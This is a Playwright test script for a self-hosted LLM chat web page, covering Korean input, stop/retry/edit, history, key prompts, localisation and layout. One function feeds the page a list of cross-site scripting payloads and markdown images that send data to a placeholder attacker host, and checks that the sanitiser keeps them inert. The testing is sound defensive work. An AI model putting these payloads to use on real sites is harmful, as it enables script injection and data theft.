// The chat page in Chromium: Hangul composition, stop, retry, edit, history, key prompt, languages, 360 px, and
// answers that try to run scripts or call out. Prints PASS/FAIL lines; exit 1 on FAIL.
import { chromium } from "playwright-core";

const { SLLM_URL: url, SLLM_KEY: key, SLLM_SHOTS: shots, SLLM_PROFILE: profile } = process.env;
let failed = false;
function report(good, name, figure = "") {
  failed ||= !good;
  console.log(`${good ? "PASS" : "FAIL"} ${name}${figure === "" ? "" : `: ${figure}`}`);
}

const context = await chromium.launchPersistentContext(profile, {
  executablePath: process.env.CHROMIUM ?? "/usr/bin/chromium",
  headless: true,
  locale: "en-US",
  viewport: { width: 360, height: 720 },
  args: ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
    "--disable-component-update", "--disable-sync"],
});
const page = context.pages()[0] ?? await context.newPage();
const outside = [], errors = [], dialogs = [];
context.on("request", (r) => { if (!r.url().startsWith(url) && !r.url().startsWith("data:")) outside.push(r.url()); });
page.on("pageerror", (e) => errors.push(e.message));
page.on("console", (m) => { if (m.type() === "error" && !/401|400/.test(m.text())) errors.push(m.text()); });
page.on("dialog", (d) => { dialogs.push(d.message()); d.dismiss(); });

const box = page.locator("footer textarea");
const answers = page.locator(".message.assistant");
const questions = page.locator(".message.user");
const send = page.getByRole("button", { name: "Send", exact: true });
const stop = page.getByRole("button", { name: "Stop", exact: true });
const idle = () => send.waitFor({ timeout: 120000 });
const ask = async (text) => { await box.fill(text); await box.press("Enter"); };

// Answers as the server would stream them, with any text.
async function answerWith(text, own = {}) {
  await page.unroute("**/v1/chat/completions");
  await page.route("**/v1/chat/completions", (route) => {
    const event = (choice, extra = {}) => `data: ${JSON.stringify({ choices: [choice], ...extra })}\n\n`;
    route.fulfill({
      contentType: "text/event-stream",
      body: event({ index: 0, delta: { role: "assistant", content: "" } }, { sllm: { sources: own.sources } }) +
        event({ index: 0, delta: { content: text } }) +
        event({ index: 0, delta: {}, finish_reason: "stop" }, { sllm: own }) + "data: [DONE]\n\n",
    });
  });
}

async function keyPrompt() {
  await page.goto(url);
  const dialog = page.getByRole("dialog");
  await dialog.waitFor();
  await dialog.locator("input").fill("wrong");
  await dialog.getByRole("button").click();
  await page.waitForResponse((r) => r.url().endsWith("/v1/models") && r.status() === 401);
  await dialog.locator("input").fill(key);
  await dialog.getByRole("button").click();
  await dialog.waitFor({ state: "detached" });
  const stored = await page.evaluate(() => JSON.stringify(localStorage));
  report(!stored.includes(key), "a missing key is asked for and kept in the tab only");
}

async function hangul() {
  await box.focus();
  const cdp = await context.newCDPSession(page);
  // What an input method does: syllables grow in place, and the Enter that ends one is its own.
  for (const text of ["ㅎ", "하", "한"]) await cdp.send("Input.imeSetComposition", { text, selectionStart: 1, selectionEnd: 1 });
  const composing = await page.evaluate(() => {
    const area = document.querySelector("footer textarea");
    for (const init of [{ isComposing: true, keyCode: 13 }, { isComposing: false, keyCode: 229 }])
      area.dispatchEvent(new KeyboardEvent("keydown", { key: "Enter", bubbles: true, cancelable: true, ...init }));
    return area.value;
  });
  const none = (await questions.count()) === 0;
  await cdp.send("Input.insertText", { text: "한글로 인사해 줘" });
  report(none && composing === "한", "Enter while a syllable is composed does not send", composing);
  await box.press("Shift+Enter");
  report((await questions.count()) === 0, "Shift+Enter breaks the line");
  await box.press("Enter");
  await questions.first().waitFor();
  const shown = await questions.first().locator(".plain").textContent();
  await stop.click().catch(() => {});  // whatever a tiny model makes of it
  await idle();
  report(shown === "한글로 인사해 줘", "the next Enter sends what was composed", shown);
}

// The real model, kept short and always the same.
async function answerShortly() {
  await page.unroute("**/v1/chat/completions");
  await page.route("**/v1/chat/completions", (route) => route.continue({
    postData: JSON.stringify({ ...route.request().postDataJSON(), max_tokens: 24, temperature: 0 }),
  }));
}

async function realAnswers() {
  await page.getByRole("button", { name: "New chat" }).click();
  await answerShortly();
  await ask("What is the capital of France?");
  await idle();
  const meta = await answers.last().locator(".meta").textContent();
  report(/smollm2.*\d tokens\/s/i.test(meta), "the model and tokens/s are shown", meta);
  await page.unroute("**/v1/chat/completions");
  await ask("Count from 1 to 300, one number a line.");
  await stop.waitFor();
  await page.waitForFunction(() => [...document.querySelectorAll(".message.assistant .markdown")].at(-1).textContent.length > 5, null, { timeout: 60000 });
  await stop.click();
  await idle();
  const stopped = await answers.last().innerText();
  report(stopped.includes("stopped"), "an answer can be stopped", `${stopped.length} characters`);
  const active = async () => Number(/sllm_slots_active (\d+)/.exec(await (await fetch(`${url}/metrics`, { headers: { Authorization: `Bearer ${key}` } })).text())[1]);
  await new Promise((resolve) => setTimeout(resolve, 500));
  report((await active()) === 0, "stopping frees the server's slot");

  const before = await answers.count();
  await answerWith("second try");
  await answers.last().getByRole("button", { name: "Retry" }).click();
  await page.getByText("second try").waitFor();
  report((await answers.count()) === before, "retry replaces the answer");

  await answerWith("answer to the edited question");
  await questions.first().getByRole("button", { name: "Edit" }).click();
  await questions.first().locator("textarea").fill("edited question");
  await questions.first().locator("textarea").press("Enter");
  await page.getByText("answer to the edited question").waitFor();
  report((await questions.count()) === 1 && (await questions.first().innerText()).includes("edited question"),
    "editing a question asks again and drops what followed");

  await page.reload();
  await page.getByText("answer to the edited question").waitFor();
  await page.getByRole("button", { name: "New chat" }).click();
  await page.getByText("Ask something").waitFor();
  await page.getByRole("button", { name: "History" }).click();
  await page.locator(".history .title").first().click();
  report(await page.getByText("answer to the edited question").isVisible(), "history survives a reload");
}

async function hostileAnswers() {
  const corpus = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(2)>", "<svg onload=alert(3)><script>alert(3)</script></svg>",
    "[click](javascript:alert(4))", "[click](data:text/html,<script>alert(5)</script>)", "<iframe src='http://evil.example/6'></iframe>",
    "![secret](http://evil.example/?q=SECRET)", "![s][r]\n\n[r]: http://evil.example/ref.png", "<a href='javascript:alert(7)'>x</a>",
    "<style>body{background:url(http://evil.example/8)}</style>", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(9)&gt;'>",
    "<form action='http://evil.example'><button>go</button></form>", "<link rel=stylesheet href=http://evil.example/10>", "<base href=http://evil.example/>",
    "<details open ontoggle=alert(11)>", "<video src=http://evil.example/12 autoplay></video>", "`<img src=x onerror=alert(13)>`",
    "[x](JaVaScRiPt:alert(14))", "[x](\u0001javascript:alert(15))", "<noscript><p title='</noscript><img src=x onerror=alert(16)>'>",
    "<http://evil.example/17>", "<object data=http://evil.example/18></object>", "<meta http-equiv=refresh content='0;url=http://evil.example/19'>",
    "<input autofocus onfocus=alert(20)>", "| a |\n|---|\n| <img src=x onerror=alert(21)> |", "[<img src=x onerror=alert(22)>](http://a.example)",
    "![x](x\"onerror=\"alert(23))", "[a](http://a.example \"\"onmouseover=alert(24)\")", "&lt;script&gt;alert(25)&lt;/script&gt;",
    ">".repeat(3000) + "deep", "*".repeat(20000), "[".repeat(5000),
  ];
  const before = outside.length;
  let live = 0;
  for (const text of [...corpus, corpus.slice(0, 29).join("\n\n")]) {
    await page.getByRole("button", { name: "New chat" }).click();
    await answerWith(text);
    await ask("x");
    await idle();
    await answers.last().locator(".actions").waitFor();
    live += await page.evaluate(() => [...document.querySelectorAll(".markdown *")].filter((e) =>
      /^(SCRIPT|IMG|SVG|IFRAME|STYLE|LINK|BASE|FORM|INPUT|VIDEO|OBJECT|META|MATH|DETAILS|NOSCRIPT)$/i.test(e.tagName) ||
      [...e.attributes].some((a) => /^on/i.test(a.name)) || /^(javascript|data|vbscript):/i.test((e.getAttribute("href") ?? "").trim())).length);
  }
  await page.waitForTimeout(300);
  report(live === 0 && dialogs.length === 0, "hostile answers are inert", `${corpus.length} of them`);
  report(outside.length === before, "hostile answers fetch nothing", outside.slice(before).join(" "));
  await answerWith("![cat](http://evil.example/cat.png)");
  await ask("x");
  await idle();
  report((await answers.last().locator(".markdown a").textContent()).includes("evil.example"), "a remote image is a link that names its host");
}

async function citations() {
  const sources = [{ number: 1, document: "handbook.md", title: "Handbook", heading: "Leave", text: "Employees have 15 days of annual leave." },
    { number: 2, document: "other.md", title: "Other", heading: "", text: "Nothing about it." }];
  await page.getByRole("button", { name: "New chat" }).click();
  await answerWith("15 days [1].", { sources, citations: [1], known: true, answer: "15 days [1]." });
  await ask("How much leave?");
  await idle();
  await answers.last().locator("a.cite").click();
  const panel = page.locator(".panel");
  report((await panel.innerText()).includes("15 days of annual leave"), "a citation's paragraph is one click away");
  await page.screenshot({ path: `${shots}/citation-360.png` });
  await page.keyboard.press("Escape");
  report((await panel.count()) === 0 && (await page.locator(".sources button").count()) === 1, "Escape closes it; only cited sources are listed");
}

async function realGrounding() {
  await answerShortly();
  const offered = page.getByLabel("Answer from documents");
  if ((await offered.count()) === 0) return console.log("SKIP grounded answers: the server has no index");
  await page.getByRole("button", { name: "New chat" }).click();
  await offered.check();
  await ask("How many days of annual leave do employees have?");
  await idle();
  const text = await answers.last().innerText();
  report(text.length > 5, "an answer from documents arrives", JSON.stringify(text.slice(0, 120)));
  await offered.uncheck();
}

async function longStream() {
  await page.getByRole("button", { name: "New chat" }).click();
  await answerWith("word **bold** `code` ".repeat(5000));
  const begin = Date.now();
  await ask("x");
  await idle();
  report(true, "20,000 words are drawn", `${Date.now() - begin} ms`);
}

async function looks() {
  await page.getByRole("button", { name: "New chat" }).click();
  await answerWith("# Title\n\nA paragraph with `code`, **bold** and a [link](https://example.org).\n\n```\nint main() { return 0; } // a long line that must scroll inside its own box and not the page\n```\n\n| a | b | c |\n|---|---|---|\n| one | two | three |\n\n한국어 문장도 함께 보입니다.",
    { timings: { seconds_to_first: 0.21, seconds: 2, tokens: 60, tokens_per_second: 33.4 } });
  await ask("Show me everything you can do, in one answer, please.");
  await idle();
  const overflow = () => page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
  report((await overflow()) <= 0, "360 px: nothing overflows");
  await page.screenshot({ path: `${shots}/light-360.png` });
  await page.getByRole("button", { name: "한국어" }).click();
  await page.getByRole("button", { name: "Light or dark" }).or(page.getByRole("button", { name: "밝게 또는 어둡게" })).click();
  report((await page.getByRole("button", { name: "보내기" }).isVisible()) && (await overflow()) <= 0, "the page speaks Korean");
  report((await page.evaluate(() => document.documentElement.lang)) === "ko", "and says so to screen readers");
  await page.screenshot({ path: `${shots}/dark-ko-360.png` });
  await page.setViewportSize({ width: 1100, height: 760 });
  await page.screenshot({ path: `${shots}/dark-ko-1100.png` });
  const unnamed = await page.evaluate(() => [...document.querySelectorAll("button,input,select,textarea")].filter((e) =>
    !(e.textContent.trim() || e.getAttribute("aria-label") || e.closest("label"))).length);
  report(unnamed === 0, "every control has a name");
}

try {
  await keyPrompt();
  await hangul();
  await realAnswers();
  await realGrounding();
  await hostileAnswers();
  await citations();
  await longStream();
  await looks();
  report(outside.length === 0, "no request left the server's address", outside.join(" "));
  report(errors.length === 0, "no error in the page", errors.slice(0, 3).join(" | "));
} catch (error) {
  await page.screenshot({ path: `${shots}/failure.png` }).catch(() => {});
  report(false, "the test itself", error.message);
} finally {
  await context.close();
}
process.exit(failed ? 1 : 0);
